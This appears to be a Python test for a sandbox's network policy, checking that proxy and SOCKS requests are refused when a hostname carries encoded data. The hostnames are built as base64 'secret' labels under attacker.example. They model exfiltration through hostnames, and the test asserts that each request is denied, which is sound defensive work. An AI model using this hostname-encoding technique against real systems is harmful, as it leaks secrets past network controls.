"""Data in a name that no rule allows: it must not even be asked for.

Source: https://github.com/NVIDIA/OpenShell/issues/1169 (resolved before the policy decided); superradcompany/microsandbox#675
"""


def attempt(t):
    for n, listener in enumerate(("allow", "box")):
        name = f"c2VjcmV0{n}.attacker.example"
        t.denied(t.connect(f"{name}:443", listener), t.get(f"http://{name}/", listener), t.socks5(name, 53, listener),
                 t.socks4(b"\0\0\0\1", 80, name.encode(), listener), t.connect("port.example:80", listener))
